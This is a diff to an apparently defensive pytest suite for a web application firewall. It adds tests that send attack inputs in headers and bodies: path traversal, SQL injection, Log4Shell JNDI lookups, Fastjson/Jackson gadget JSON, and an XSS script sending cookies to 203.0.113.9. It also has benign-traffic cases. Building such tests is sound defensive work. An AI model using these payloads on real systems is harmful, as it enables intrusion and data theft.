@@ -30,7 +30,9 @@ SDK_USER_AGENTS = [
     "ShopApp/4.2.1 (com.example.shop; build:4210; iOS 17.5.1) Alamofire/5.9.1",
     "Mozilla/5.0 (compatible; ExampleBot/2.1; +https://example.com/bot.html)",
     "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
-    "PowerShell/7.4.2 (Microsoft Windows 10.0.22631; en-US) WindowsPowerShell/7.4.2",
+    # PowerShell 7's and Windows PowerShell 5.1's web cmdlets.
+    "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.22631; en-US) PowerShell/7.4.2",
+    "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.22621.2506",
 ]
 
 
@@ -234,3 +236,100 @@ def test_a_serialised_java_object_in_the_same_form_field_is_denied(enforce_envoy
     body, headers = _presigned_form(JAVA_OBJECT)
     resp = enforce_envoy.request("POST", "/api/comments", body=body, headers=headers)
     assert_problem_json_403(resp)
+
+
+# Every request header is scored except credentials, transport and tracing headers
+# (`inspect_other_headers`, `skip_headers`): attackers put payloads in whatever header an
+# upstream reads, logs or echoes.
+@pytest.mark.parametrize(
+    "headers",
+    [
+        {"x-filename": "../../../../../etc/passwd"},
+        {"x-tenant": "1' UNION SELECT username, password FROM users--"},
+        {"x-callback": "${jndi:ldap://203.0.113.9:1389/a}"},
+        {"x-device-id": "<script>document.location='//203.0.113.9/?c='+document.cookie</script>"},
+    ],
+    ids=["traversal", "sqli", "jndi", "xss"],
+)
+def test_attack_in_an_application_header_is_denied(enforce_envoy, headers):
+    resp = enforce_envoy.request("GET", "/api/users/2", headers=headers)
+    assert_problem_json_403(resp)
+
+
+# Headers real SDKs, browsers and API clients send (shapes from the SDKs' public sources).
+CLIENT_HEADERS = {
+    "x-stainless-lang": "python",
+    "x-stainless-package-version": "1.35.3",
+    "x-stainless-os": "Linux",
+    "x-stainless-arch": "x64",
+    "x-stainless-runtime": "CPython",
+    "x-stainless-runtime-version": "3.11.7",
+    "anthropic-version": "2023-06-01",
+    "openai-beta": "assistants=v2",
+    "x-goog-api-client": "gl-python/3.11.7 grpc/1.62.1 gax/2.17.1 gapic/2.13.0",
+    "accept": "application/vnd.github+json",
+    "x-github-api-version": "2022-11-28",
+    "if-none-match": 'W/"5f2b1a2b3c4d"',
+    "sec-ch-ua": '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"',
+    "sec-ch-ua-platform": '"macOS"',
+    "prefer": "return=representation",
+    "idempotency-key": "6f1c2a9e-1f7b-4c8e-9b1d-2a7e5c3f9d10",
+    "authorization": "Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl",
+    "traceparent": "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
+}
+
+
+def test_headers_of_real_clients_pass(enforce_envoy):
+    resp = enforce_envoy.request("GET", "/api/users/2", headers=CLIENT_HEADERS)
+    assert_passes_in_enforce_mode(resp)
+
+
+# Polymorphic type ids that name gadget classes (Jackson default typing, Fastjson autoType) and
+# code an application decodes from base64: the class names are plain text, which was left out
+# unscored before feature schema 8.
+GADGET_JSON = [
+    {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://203.0.113.9:1389/Exploit",
+     "autoCommit": True},
+    {"item": ["org.apache.xbean.propertyeditor.JndiConverter", {"asText": "rmi://203.0.113.9:1099/x"}]},
+]
+
+
+@pytest.mark.parametrize("doc", GADGET_JSON, ids=["fastjson-jdbcrowset", "jackson-wrapper-array"])
+def test_polymorphic_gadget_type_in_json_is_denied(enforce_envoy, doc):
+    resp = enforce_envoy.request(
+        "POST", "/api/comments", body=json.dumps(doc).encode(),
+        headers={"content-type": "application/json"},
+    )
+    assert_problem_json_403(resp)
+
+
+def test_code_in_base64_is_denied(enforce_envoy):
+    code = base64.b64encode(b"${jndi:ldap://203.0.113.9:1389/Basic/Command/id}").decode()
+    resp = enforce_envoy.request("GET", "/api/search?" + urllib.parse.urlencode({"state": code}))
+    assert_problem_json_403(resp)
+
+
+# JVM names where APIs carry them for good reasons.
+JVM_BENIGN = [
+    ("POST", "/api/comments", {"name": "orders-sink", "config": {
+        "connector.class": "io.confluent.connect.jdbc.JdbcSinkConnector",
+        "key.converter": "org.apache.kafka.connect.storage.StringConverter",
+        "value.converter": "org.apache.kafka.connect.json.JsonConverter", "tasks.max": "2"}}),
+    ("POST", "/api/comments", {"level": "error", "exception": {
+        "type": "java.lang.IllegalStateException", "value": "Order 42 is already closed",
+        "stacktrace": "java.lang.IllegalStateException: Order 42 is already closed\n"
+                      "\tat com.example.orders.OrderService.close(OrderService.java:88)\n"
+                      "\tat java.base/java.lang.Thread.run(Thread.java:1583)"}}),
+    ("GET", "/api/search?" + urllib.parse.urlencode(
+        {"q": "java.util.concurrent.ConcurrentHashMap language:java"}), None),
+    ("GET", "/api/search?" + urllib.parse.urlencode({"logger": "org.springframework.web"}), None),
+]
+
+
+@pytest.mark.parametrize("method,path,doc", JVM_BENIGN,
+                         ids=["kafka-connect", "error-report", "code-search", "logger-name"])
+def test_jvm_names_in_ordinary_api_values_pass(enforce_envoy, method, path, doc):
+    body = json.dumps(doc).encode() if doc is not None else None
+    headers = {"content-type": "application/json"} if doc is not None else {}
+    resp = enforce_envoy.request(method, path, body=body, headers=headers)
+    assert_passes_in_enforce_mode(resp, status=201 if method == "POST" else 200)
